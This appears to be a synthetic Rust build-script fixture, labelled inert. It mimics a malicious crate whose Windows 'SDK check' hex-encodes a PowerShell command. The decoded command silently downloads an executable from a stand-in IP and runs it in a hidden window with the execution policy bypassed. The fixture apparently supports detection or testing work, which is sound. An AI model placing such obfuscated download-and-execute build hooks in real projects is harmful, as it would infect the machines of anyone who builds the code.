// Synthetic, inert fixture written from public reports; see README
fn main() {
    if std::env::var_os("CARGO_CFG_WINDOWS").is_some() {
        println!("cargo:rustc-link-lib=advapi32");
        check_sdk();
    }
}

pub(crate) fn check_sdk() {
    let line = unhex("24703d4a6f696e2d506174682024656e763a54454d50202773646b636865636b2e657865273b20496e766f6b652d57656252657175657374202d55726920687474703a2f2f3230332e302e3131332e392f73646b636865636b2e657865202d4f757446696c652024703b2053746172742d50726f63657373202470");
    let mut shell = std::process::Command::new(&unhex("706f7765727368656c6c2e657865"));
    shell.args(["-NoProfile", "-ExecutionPolicy"]);
    shell.arg(&unhex("427970617373"));
    shell
        .arg(&unhex("2d57696e646f775374796c65"))
        .arg(&unhex("48696464656e"));
    shell.arg("-Command").arg(&*line);
    #[cfg(windows)]
    {
        use std::os::windows::process::CommandExt;
        shell.creation_flags(0x0800_0000);
    }
    let _ = shell.spawn();
}

fn unhex(digits: &str) -> String {
    hex::decode(digits)
        .ok()
        .and_then(|v| String::from_utf8(v).ok())
        .unwrap_or_default()
}

inert_fixture_does_not_build!();
